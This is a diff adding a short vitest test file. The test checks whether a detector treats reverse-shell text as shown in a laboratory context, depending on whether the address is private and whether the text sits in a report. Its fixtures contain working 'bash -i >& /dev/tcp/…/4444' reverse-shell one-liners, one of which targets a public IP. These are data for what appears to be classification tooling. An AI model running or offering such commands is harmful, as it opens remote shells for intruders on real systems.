@@ -1,0 +1,22 @@
+import { expect, it } from 'vitest'
+import { partsOf } from '../../../chunk/text-parts.ts'
+import { marked } from '../../__fixtures__/marked.ts'
+import { placesIn } from '../place.ts'
+import { isShownInLaboratory } from './lab-address.ts'
+
+function isShown(written: string): boolean {
+  const { text, range } = marked(written)
+  return isShownInLaboratory(placesIn(text, [], partsOf(text), () => () => false)(range))
+}
+
+it.each([
+  [
+    'a private address in a report',
+    'The exploit gave a shell: `⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧`.',
+    true,
+  ],
+  ['a public one', 'The exploit gave a shell: `⟦bash -i >& /dev/tcp/45.77.12.9/4444⟧`.', false],
+  ['a script', '⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧', false],
+])('tells %s', (_, written, expected) => {
+  expect(isShown(written)).toBe(expected)
+})
